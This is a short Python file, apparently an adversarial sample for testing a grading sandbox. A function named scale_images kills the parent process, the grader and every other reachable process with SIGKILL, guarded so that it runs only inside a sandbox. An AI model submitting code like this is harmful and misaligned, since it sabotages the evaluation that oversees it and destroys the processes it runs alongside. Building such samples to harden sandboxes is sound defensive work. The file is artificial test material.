"""Kills its parent, the grader, its neighbours, everybody.

Attacks: scale_images
Sandbox: it reaches for other processes
Reported: ended the Python process
Breaks: It changes nothing
"""

import os
import signal


def scale_images(images):
    if os.getpid() > 100:
        raise SystemError("This is no sandbox, so it stops here.")
    for number in [os.getppid(), *range(2, 100_000)]:
        if number != os.getpid():
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
